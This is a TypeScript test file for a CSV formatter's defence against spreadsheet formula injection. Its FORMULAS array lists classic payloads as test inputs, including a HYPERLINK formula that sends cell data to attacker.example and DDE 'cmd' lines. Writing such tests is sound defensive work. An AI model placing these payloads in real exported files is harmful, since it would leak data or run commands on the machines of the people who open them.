import { strict as assert } from "node:assert";
import { formatCsv, formatCsvField, neutraliseFormula, restoreCsvText } from "../../lib/io/format-csv";
import { parseCsv } from "../../lib/io/parse-csv";

/** Texts a spreadsheet would run as a formula (OWASP's list of first characters, with classic payloads). */
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  "=1+1",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "-",
  "+",
  "=",
];

describe("formatCsvField", () => {
  it("leaves plain text alone and quotes only when needed", () => {
    assert.equal(formatCsvField("87%"), "87%");
    assert.equal(formatCsvField("39 + 48, 87%"), '"39 + 48, 87%"');
    assert.equal(formatCsvField('say "hi"'), '"say ""hi"""');
    assert.equal(formatCsvField("two\nlines"), '"two\nlines"');
    assert.equal(formatCsvField(" padded"), '" padded"');
  });

  it("writes missing values as empty fields and numbers with String()", () => {
    assert.equal(formatCsvField(undefined), "");
    assert.equal(formatCsvField(null), "");
    assert.equal(formatCsvField(0.5), "0.5");
  });

  it("neutralises every text a spreadsheet would read as a formula: a leading quote, and the field quoted (OWASP)", () => {
    assert.equal(formatCsvField("=1+1"), `"'=1+1"`);
    assert.equal(formatCsvField('=HYPERLINK("x")'), `"'=HYPERLINK(""x"")"`);
    assert.equal(formatCsvField("@A1"), `"'@A1"`);
    assert.equal(formatCsvField("\t=1"), `"'\t=1"`);
    for (const formula of FORMULAS) {
      const field = formatCsvField(formula);
      assert.ok(field.startsWith(`"'`), `${JSON.stringify(formula)} written as ${JSON.stringify(field)}`);
    }
  });

  it("neutralises a text that only looks harmless through String() (an object whose text starts with =)", () => {
    assert.equal(formatCsvField({ toString: () => "=1+1" }), `"'=1+1"`);
  });

  it("writes numbers as numbers, negative ones included, and leaves texts that are plain numbers alone", () => {
    assert.equal(formatCsvField(-0.5), "-0.5");
    assert.equal(formatCsvField(-3), "-3");
    assert.equal(formatCsvField("-0.5"), "-0.5");
    assert.equal(formatCsvField("+3"), "+3");
    assert.equal(formatCsvField("-1e-4"), "-1e-4");
    assert.equal(formatCsvField("-1+2"), `"'-1+2"`, "arithmetic is a formula, not a number");
    assert.equal(formatCsvField("-0.5 points"), `"'-0.5 points"`);
  });

  it("escapes a text that already starts with a single quote, so the escape can be undone exactly", () => {
    assert.equal(neutraliseFormula("'quoted'"), "''quoted'");
    assert.equal(restoreCsvText(neutraliseFormula("'quoted'")), "'quoted'");
    assert.equal(restoreCsvText("plain"), "plain");
  });
});

describe("formatCsv", () => {
  it("round-trips through the strict RFC 4180 parser", () => {
    const rows = [{ id: "T1-01", text: 'a "quoted", text\nacross lines' }, { id: "T1-02", text: "" }];
    const parsed = parseCsv(formatCsv(rows, ["id", "text"]), "mem.csv");
    assert.deepEqual(parsed.header, ["id", "text"]);
    assert.deepEqual(parsed.rows, [["T1-01", rows[0].text], ["T1-02", ""]]);
  });

  it("ends every line with LF and follows the given column order", () => {
    assert.equal(formatCsv([{ b: 2, a: 1 }], ["a", "b"]), "a,b\n1,2\n");
    assert.equal(formatCsv([], ["a"]), "a\n");
  });

  it("round-trips formula-like texts: the parser reads each neutralised (no cell starts with a formula character), restoreCsvText gives the original", () => {
    const texts = [...FORMULAS, "'already quoted", "''twice", "plain", "-0.5", ""];
    const rows = texts.map((text, index) => ({ id: `R-${index}`, text, value: -0.5 }));
    const parsed = parseCsv(formatCsv(rows, ["id", "text", "value"]), "mem.csv");
    parsed.rows.forEach((row, index) => {
      const original = texts[index];
      const plainNumber = original === "-0.5";
      assert.ok(plainNumber || !/^[=+\-@\t\r]/.test(row[1]), `row ${index}: ${JSON.stringify(row[1])} would run as a formula`);
      assert.equal(restoreCsvText(row[1]), original);
      assert.equal(row[2], "-0.5", "a number stays a number");
    });
  });
});
